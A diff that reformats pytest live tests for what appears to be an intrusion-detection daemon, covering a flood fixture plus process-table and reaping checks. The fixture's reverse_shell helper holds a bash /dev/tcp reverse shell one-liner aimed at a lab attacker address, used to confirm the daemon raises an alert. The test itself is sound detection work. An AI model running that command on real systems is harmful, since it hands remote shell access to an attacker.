@@ -33,6 +33,7 @@ from tests.live.daemon import Daemon, LogLine, read_lines
 
 # ------------------------------------------------------------------ helpers
 
+
 @pytest.fixture(scope="module")
 def workloads(tmp_path_factory: pytest.TempPathFactory) -> tuple[ModuleType, dict[str, Path]]:
     """The workloads module and its binaries (name -> path), built once for this file."""
@@ -143,8 +144,12 @@ def flood(workloads, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flood
             return ops
 
         def reverse_shell(port: int) -> None:
-            lab.run(lab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{port} 0>&1; exit 0"],
-                    timeout=20, env={"HOME": str(home)})
+            lab.run(
+                lab.victim_ns,
+                ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{port} 0>&1; exit 0"],
+                timeout=20,
+                env={"HOME": str(home)},
+            )
 
         until = time.monotonic() + FLOOD_S
         with ThreadPoolExecutor(max_workers=2 * STORMS_PER_KIND) as pool:
@@ -168,18 +173,27 @@ def flood(workloads, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flood
         shells[recovered_port] = b"cw-42" in listener.wait(timeout=20)
 
         def recovered_alert() -> bool:
-            return any(json.loads(text).get("destination", {}).get("port") == recovered_port
-                       for text in read_lines(daemon.alerts))
+            return any(
+                json.loads(text).get("destination", {}).get("port") == recovered_port
+                for text in read_lines(daemon.alerts)
+            )
 
         # Events are read in order, so once the later shell's alert is out, the earlier one's had its chance.
         # The bound only stops a hang; the test judges what came out.
         wait_until(lambda: not daemon.alive() or recovered_alert(), timeout=60, interval=0.1)
         exit_code = daemon.stop()
-        yield FloodRun(dup_ops=dup_ops, connect_ops=connect_ops, alive_after_flood=alive_after_flood,
-                       exit_code=exit_code, lines=daemon.lines(), alerts=[json.loads(t) for t in
-                                                                          read_lines(daemon.alerts)],
-                       shells=shells, attacker_ip=lab.attacker_ip4, immediate_port=immediate_port,
-                       recovered_port=recovered_port)
+        yield FloodRun(
+            dup_ops=dup_ops,
+            connect_ops=connect_ops,
+            alive_after_flood=alive_after_flood,
+            exit_code=exit_code,
+            lines=daemon.lines(),
+            alerts=[json.loads(t) for t in read_lines(daemon.alerts)],
+            shells=shells,
+            attacker_ip=lab.attacker_ip4,
+            immediate_port=immediate_port,
+            recovered_port=recovered_port,
+        )
     finally:
         if daemon is not None:
             daemon.stop()
@@ -248,8 +262,12 @@ def test_process_table_returns_to_live_count_after_100k_processes(workloads, sta
     daemon.wait_until(lambda: bool(daemon.stats()), "the first stats line", 30.0)
     before = daemon.stats()[-1]
 
-    storm = subprocess.run([str(binaries["exec_storm"]), str(PROCESSES), "0", str(STORM_JOBS)], capture_output=True,
-                           text=True, timeout=STORM_TIMEOUT_S)
+    storm = subprocess.run(
+        [str(binaries["exec_storm"]), str(PROCESSES), "0", str(STORM_JOBS)],
+        capture_output=True,
+        text=True,
+        timeout=STORM_TIMEOUT_S,
+    )
     assert storm.returncode == 0, storm.stderr
     assert module.parse_report(storm.stdout).ops == PROCESSES
 
@@ -303,8 +321,12 @@ def test_reaping_does_not_wait_for_the_stats_line(workloads, start_daemon) -> No
     plus the grace window after 10,000 processes: reaping runs on its own tick, not on the logging interval."""
     module, binaries = workloads
     daemon = start_daemon(f"[sensor]\nstats_interval_s = 3600.0\n[lineage]\ngrace_s = {QUIET_GRACE_S}\n")
-    storm = subprocess.run([str(binaries["exec_storm"]), str(QUIET_PROCESSES), "0", str(STORM_JOBS)],
-                           capture_output=True, text=True, timeout=STORM_TIMEOUT_S)
+    storm = subprocess.run(
+        [str(binaries["exec_storm"]), str(QUIET_PROCESSES), "0", str(STORM_JOBS)],
+        capture_output=True,
+        text=True,
+        timeout=STORM_TIMEOUT_S,
+    )
     assert storm.returncode == 0, storm.stderr
     window = QUIET_GRACE_S + 2.0  # the grace window plus two housekeeping ticks
     time.sleep(SETTLE_S - window)
@@ -321,6 +343,9 @@ def test_reaping_does_not_wait_for_the_stats_line(workloads, start_daemon) -> No
     assert final["evicted"] == 0, final
     # Only processes that exited in the last window may still be held; each of those was forked in it, or is one
     # of the few long-lived ones that happened to end then (the slack).
-    assert final["processes"] <= live + forks_in_window + lost + TABLE_SLACK, (final["processes"], live,
-                                                                              forks_in_window)
+    assert final["processes"] <= live + forks_in_window + lost + TABLE_SLACK, (
+        final["processes"],
+        live,
+        forks_in_window,
+    )
     assert final["processes"] >= live - TABLE_SLACK, (final["processes"], live)
